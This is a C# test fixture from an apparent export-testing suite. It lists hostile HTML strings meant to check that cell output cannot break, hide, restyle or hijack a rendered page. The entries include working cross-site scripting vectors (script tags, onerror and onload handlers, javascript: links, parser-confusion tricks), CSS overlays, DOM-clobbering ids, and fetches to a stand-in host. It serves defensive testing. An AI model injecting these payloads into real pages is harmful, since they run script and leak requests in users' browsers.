namespace Lessons.Tests.Export;

/// <summary>HTML that a cell may show and that would end, hide, cover or restyle the page after it, run something, or fetch something.</summary>
internal static class HostileOutputs
{
    private const string Away = "https://away.example/x";

    public static IReadOnlyList<string> All { get; } =
    [
        // Unclosed.
        "<p>shown</p><!-- note", "<!-- note", "<!--><b>", "<![CDATA[ x", "<?php x", "<div>x", "<div><div><div>x", "<b>x", "<i><b><u>x", "<p>x", "<pre>x", "<code>x", "<table><tr><td>x",
        "<table><tr><td><table><tr>x", "<table>x<b>y", "<ul><li>x", "<dl><dt>x", "<select><option>x", "<textarea>x", "<title>x", "<style>x", "<script>x", "<xmp>x", "<plaintext>x",
        "<noscript>x", "<noembed>x", "<noframes>x", "<iframe>x", "<template><p>x", "<svg><g>x", "<svg><title><p>x", "<math><mi>x", "<button>x", "<details><summary>x", "<a href=\"#x\">x",
        "<font size=7>x", "<object>x", "<video>x", "<audio>x", "<canvas>x", "<marquee>x", "<fieldset><legend>x", "<form><input>", "<h1>x", "<section>x", "<dialog open>x", "<img src=\"", "<div title=\"x", "<a b='", "<",
        // Ends that have no beginning.
        "</div></div></section></main></body></html>x", "</p></pre></table></details></figure>x", "</section><section>x", "</main><main id=content>x", "</script></style></title>x",
        // Styles that reach outside.
        "<style>*{display:none!important}</style>x", "<style>@import url(" + Away + ");h2{color:red}</style>", "<svg><style>*{visibility:hidden}</style><rect/></svg>", "<link rel=stylesheet href=\"data:text/css,*{display:none}\">",
        "<div style=\"position:fixed;inset:0;background:red;z-index:99999\">x</div>", "<div style=\"position:absolute;top:0;left:0;width:9999px;height:99999px;background:red\">x</div>",
        "<div style=\"position:sticky;top:0\">x</div>", "<div style=\"float:left;width:100%\">x</div>", "<div style=\"margin-bottom:-5000px\">x</div>", "<div style=\"margin:0 0 -900px\">x</div>",
        "<div style=\"transform:translateY(600px) scale(50)\">x</div>", "<div style=\"background:url(" + Away + ")\">x</div>", "<div style=\"background:u\\72l(" + Away + ")\">x</div>", "<div style=\"list-style-image:url(" + Away + ")\">x</div>",
        "<div style=\"width:calc(1px);x:expression(hostile())\">x</div>", "<div style=\"color:red;}*{display:none\">x</div>", "<div style=\"outline:99999px solid red\">x</div>", "<div style=\"box-shadow:0 0 0 9999px red\">x</div>",
        "<div class=\"skip unseen presenting bar contents drawing shown\">x</div>", "<div class=\"drawing\" role=img></div><script type=\"application/json\">nonsense</script>", "<div class=drawing></div><p>x",
        // Sent elsewhere.
        "<meta http-equiv=refresh content=\"0;url=" + Away + "\">", "<base href=\"" + Away + "\">", "<base target=_blank>", "<link rel=prefetch href=\"" + Away + "\">", "<link rel=dns-prefetch href=\"//away.example\">",
        "<img src=\"" + Away + "\">", "<img src=x srcset=\"" + Away + " 2x\">", "<img src=//away.example/x>", "<picture><source srcset=\"" + Away + "\"><img src=x></picture>", "<iframe src=\"" + Away + "\"></iframe>",
        "<iframe srcdoc=\"<script>parent.hostile()</script>\"></iframe>", "<iframe srcdoc='<img src=&quot;" + Away + "&quot;>'></iframe>", "<embed src=\"" + Away + "\">", "<object data=\"" + Away + "\"></object>", "<video src=\"" + Away + "\" poster=\"" + Away + "\" autoplay></video>",
        "<audio src=\"" + Away + "\" autoplay></audio>", "<input type=image src=\"" + Away + "\">", "<body background=\"" + Away + "\">", "<table background=\"" + Away + "\"><tr><td>x</table>", "<form action=\"" + Away + "\"><button autofocus>x</button></form>",
        "<svg><image href=\"" + Away + "\"/></svg>", "<svg><use href=\"" + Away + "#x\"/></svg>", "<svg><rect fill=\"url(" + Away + "#x)\"/></svg>", "<svg><filter><feImage href=\"" + Away + "\"/></filter></svg>", "<a href=\"" + Away + "\" ping=\"" + Away + "\">x</a>",
        // Run.
        "<script>hostile()</script>", "<script src=\"" + Away + "\"></script>", "<script type=module>hostile()</script>", "<img src=x onerror=hostile()>", "<svg onload=hostile()>", "<svg><script>hostile()</script></svg>", "<svg><a xlink:href=\"javascript:hostile()\"><text y=9>x</text></a></svg>",
        "<svg><foreignObject><body onload=hostile()><iframe src=javascript:hostile()></foreignObject></svg>", "<svg><animate attributeName=href values=javascript:hostile() /></svg>", "<svg><set attributeName=onload to=hostile()></svg>",
        "<a href=\"javascript:hostile()\">x</a>", "<a href=\" &#106;avascript:hostile()\">x</a>", "<a href=\"data:text/html,<script>hostile()</script>\">x</a>", "<details open ontoggle=hostile()>x</details>", "<input autofocus onfocus=hostile()>", "<body onload=hostile()>",
        "<math><a xlink:href=\"javascript:hostile()\">x</a></math>", "<math><annotation-xml encoding=\"text/html\"><script>hostile()</script></annotation-xml></math>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hostile()>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=hostile()>\">", "<noscript><p title=\"</noscript><img src=x onerror=hostile()>\">", "<template shadowrootmode=open><style>:host{display:none}</style></template>", "<x-y onclick=hostile()>x</x-y>",
        "<p title='\"><img src=x onerror=hostile()>'>x", "<p title=\"&quot;><img src=x onerror=hostile()>\">x", "<div data-x='\"&#39;<b>'>\"'>'\"</div>",
        // Names of the page's own.
        "<div id=content>x</div>", "<div id=figure-1>x</div>", "<h2 id=after-1>x</h2>", "<a name=after-2>x</a>", "<img name=body src=x>", "<form id=documentElement name=cookie><input name=querySelector>", "<p id=Plotly>x</p>", "<div popover id=p>x</div><button popovertarget=p>y</button>",
        "<label for=content>x</label>", "<p hidden>x</p>", "<p contenteditable accesskey=p tabindex=1>x</p>",
    ];
}
